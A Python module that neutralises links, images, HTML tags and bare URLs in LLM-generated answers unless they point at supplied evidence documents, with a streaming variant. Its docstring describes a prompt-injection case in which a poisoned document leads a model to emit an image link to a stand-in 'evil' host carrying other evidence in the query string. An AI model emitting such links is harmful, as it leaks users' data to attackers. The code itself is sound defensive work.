"""Links and images an LLM writes are neutralised unless they point at the evidence.

A poisoned document can talk a model into writing `![x](https://evil/?q=<other evidence>)`:
a client that renders the answer as Markdown or HTML would fetch that URL and hand the
evidence (or the question) to whoever runs it. So, in what the model writes, every
Markdown link, image, autolink, raw `<a>`/`<img>` tag and bare URL whose target is not
the `uri` of a document given as evidence loses its target: a link keeps its text, an
image its alt text, a bare URL becomes `(link removed)`.

Streamed text is neutralised the same way. No construct spans a line end, or a space
outside every bracket (each closing bracket closes only its own kind), so text is settled
up to the last such place and neutralised piece by piece: the concatenated stream equals
`neutralise` of the whole, and only the word being written (or an open bracket on the
current line) is held back.
"""

from __future__ import annotations

import re
from collections.abc import Collection

REMOVED = "(link removed)"
_IMAGE = re.compile(r"!\[([^\]\n]*)\]\(([^)\s]*)(?:\s+\"[^\"\n]*\")?\)")
_LINK = re.compile(r"\[([^\]\n]*)\]\(([^)\s]*)(?:\s+\"[^\"\n]*\")?\)")
_AUTOLINK = re.compile(r"<([A-Za-z][A-Za-z0-9+.-]*:[^>\s]*)>")
_TAG = re.compile(r"</?(?:a|img)\b[^>\n]*>", re.IGNORECASE)
_BARE = re.compile(r"(?:\b[A-Za-z][A-Za-z0-9+.-]*://|\bwww\.)[^\s<>()\[\]]+")
_OPENER = {"]": "[", ")": "(", ">": "<"}  # each closing bracket, and the one it closes


def neutralise(text: str, allowed: Collection[str]) -> str:
    """`text` with every link target not in `allowed` removed."""

    def image(m: re.Match[str]) -> str:
        return m.group(0) if m.group(2) in allowed else m.group(1)

    def link(m: re.Match[str]) -> str:
        return m.group(0) if m.group(2) in allowed else m.group(1)

    def autolink(m: re.Match[str]) -> str:
        return m.group(0) if m.group(1) in allowed else REMOVED

    def bare(m: re.Match[str]) -> str:
        return m.group(0) if m.group(0) in allowed else REMOVED

    text = _IMAGE.sub(image, text)
    text = _LINK.sub(link, text)
    text = _AUTOLINK.sub(autolink, text)
    text = _TAG.sub("", text)
    # What is left of an allowed link keeps its target; any other URL goes.
    kept = [m.span() for m in _LINK.finditer(text)] + [m.span() for m in _IMAGE.finditer(text)]
    return _BARE.sub(lambda m: m.group(0) if _inside(m.start(), kept) else bare(m), text)


def _inside(position: int, spans: list[tuple[int, int]]) -> bool:
    return any(start <= position < end for start, end in spans)


class StreamNeutraliser:
    """`neutralise` for text that arrives in pieces: `feed` returns what is settled."""

    def __init__(self, allowed: Collection[str]) -> None:
        self._allowed = allowed
        self._raw = ""
        self._settled = 0  # raw[:settled] has been neutralised and returned
        self._scanned = 0  # raw[:scanned] has been scanned for brackets
        self._open: list[str] = []  # brackets open on the current line, innermost last

    def feed(self, piece: str) -> str:
        self._raw += piece
        cut = self._settled
        for i in range(self._scanned, len(self._raw)):
            char = self._raw[i]
            if char in "[(<":
                self._open.append(char)
            elif char in _OPENER:
                # Only the bracket it closes: in `<a href=') >` the `)` leaves the tag open.
                if self._open and self._open[-1] == _OPENER[char]:
                    self._open.pop()
            elif char == "\n" or (char.isspace() and not self._open):
                self._open.clear()  # no construct spans a line: an unclosed bracket ends here
                cut = i + 1
        self._scanned = len(self._raw)
        return self._take(cut)

    def finish(self) -> str:
        return self._take(len(self._raw))

    def _take(self, cut: int) -> str:
        out = neutralise(self._raw[self._settled : cut], self._allowed)
        self._settled = max(self._settled, cut)
        return out
